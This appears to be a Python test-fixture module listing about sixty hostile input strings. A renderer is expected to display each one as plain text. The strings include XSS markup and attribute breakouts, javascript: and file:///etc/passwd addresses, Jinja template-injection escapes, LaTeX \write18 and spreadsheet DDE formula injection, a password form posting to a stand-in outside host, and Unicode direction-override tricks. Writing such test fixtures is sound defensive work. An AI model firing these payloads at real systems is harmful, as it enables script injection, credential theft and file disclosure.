"""Sixty texts that somebody could type to do harm: what shows one of them must show it as text, and do nothing else.

Markup carries `data-hostile`, scripts set `__ran` or open a dialog, addresses lead to OUTSIDE: so each kind of harm can
be seen on a page.
"""

from __future__ import annotations

OUTSIDE = "outside.example"
_RUN = "window.__ran=1"
_AT = f"http://{OUTSIDE}"

MARKUP = {
    "script": f"<script data-hostile>{_RUN}</script>",
    "script from outside": f"<script data-hostile src={_AT}/a.js></script>",
    "script in capitals": f"<SCRIPT data-hostile>{_RUN}</SCRIPT>",
    "script split": f"<scr<script>ipt data-hostile>{_RUN}</scr</script>ipt>",
    "script closes one": f"</script><script data-hostile>{_RUN}</script>",
    "closes JSON": f'"}}]}}</script><img data-hostile src=x onerror="{_RUN}">',
    "closes a comment": f"--><img data-hostile src=x onerror={_RUN}><!--",
    "closes CDATA": f"]]><img data-hostile src=x onerror={_RUN}>",
    "closes a title": f"</title></textarea></style><img data-hostile src=x onerror={_RUN}>",
    "image with onerror": f"<img data-hostile src=x onerror={_RUN}>",
    "image from outside": f"<img data-hostile src={_AT}/pixel.gif>",
    "leaves an attribute": f'" onmouseover="{_RUN}" data-hostile="',
    "leaves an attribute, single": f"' autofocus onfocus='{_RUN}' data-hostile='",
    "leaves an attribute, none": f"x onpointerenter={_RUN} data-hostile",
    "back-ticks": f"`onclick={_RUN}` data-hostile",
    "svg with onload": f"<svg data-hostile onload={_RUN}></svg>",
    "svg animates": f"<svg data-hostile><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    "svg uses outside": f'<svg data-hostile><use href="{_AT}/a.svg#a"></svg>',
    "foreign object": f"<svg data-hostile><foreignObject><iframe onload={_RUN}></iframe></foreignObject></svg>",
    "math": f'<math data-hostile><mi xlink:href="javascript:{_RUN}">x</mi></math>',
    "iframe": '<iframe data-hostile srcdoc="<script>parent.__ran=1</script>"></iframe>',
    "object": f"<object data-hostile data={_AT}/a.swf></object>",
    "stylesheet": f"<link data-hostile rel=stylesheet href={_AT}/a.css>",
    "style imports": f"<style data-hostile>@import '{_AT}/a.css'; body {{ display: none }}</style>",
    "style attribute": f'<p data-hostile style="background:url({_AT}/a.png);position:fixed;inset:0">over it all</p>',
    "base": f"<base data-hostile href={_AT}/>",
    "meta refresh": f'<meta data-hostile http-equiv=refresh content="0;url={_AT}">',
    "form": f"<form data-hostile action={_AT}><input name=password autofocus></form>",
    "details": f"<details data-hostile open ontoggle={_RUN}>",
    "video": f"<video data-hostile><source onerror={_RUN}></video>",
    "entities": f"&lt;img data-hostile src=x onerror={_RUN}&gt;",
    "entities by number": f"&#60;img data-hostile src=x onerror={_RUN}&#62;",
    "twice encoded": "%3Cscript%3Ewindow.__ran=1%3C/script%3E",
    "template element": f"<template data-hostile><img src=x onerror={_RUN}></template>",
}
ADDRESSES = {
    "javascript address": f"javascript:{_RUN}",
    "data address": "data:text/html,<script>parent.__ran=1</script>",
    "address from outside": f"{_AT}/read-me",
    "file address": "file:///etc/passwd",
    "address without scheme": f"//{OUTSIDE}/a.js",
}
LANGUAGES = {
    "markdown image": f"![a]({_AT}/a.png)",
    "markdown link that runs": f"[open me](javascript:{_RUN})",
    "markdown html": f"**b** <img data-hostile src={_AT}/m.png> _i_",
    "markdown reference": f"[a]: {_AT}/ref 'title'\n![x][a]",
    "streamlit marks": f":red[x] :material/home: $$\\href{{{_AT}}}{{a}}$$ :small[y]",
    "latex": "\\input{/etc/passwd} \\write18{touch /tmp/hostile}",
    "typst": '#read("/etc/passwd") #import "@preview/a:1.0.0" #eval("1+1") $x$ <label> @ref',
    "jinja": "{{ 7*7 }}{% for a in ().__class__.__base__.__subclasses__() %}{{ a }}{% endfor %}",
    "format braces": "{0.__class__.__init__.__globals__} {name} %(secret)s ${HOME} #{7*7}",
    "formula": f'=HYPERLINK("{_AT}","open me")',
    "formula, DDE": "=cmd|'/C calc'!A0",
    "formula after a sign": "+1+cmd|'/C calc'!A0",
    "formula, full width": "＝1+1",
    "formula after a space": " \t@SUM(1+1)*cmd|' /C calc'!A0",
}
CHARACTERS = {
    "direction override": "safe\u202egnp.exe\u2066\u200f",
    "zero width": "za\u200bza\u200d\ufeffre",
    "control characters": "a\x00b\x07c\x1b[31md\x0be\x9f",
    "lone surrogates": "a\ud800b\udfffc",
    "not characters": "a\ufffeb\uffffc\u2028d\u2029e",
    "many marks": "Z" + "\u0301\u0335\u0489" * 40 + "algo",
    "overlong": "W" * 5_000,
}
PAYLOADS = {**MARKUP, **ADDRESSES, **LANGUAGES, **CHARACTERS}
FEW = {name: text for number, (name, text) in enumerate(PAYLOADS.items()) if number % 3 == 0}
"""Twenty of them, of every kind."""
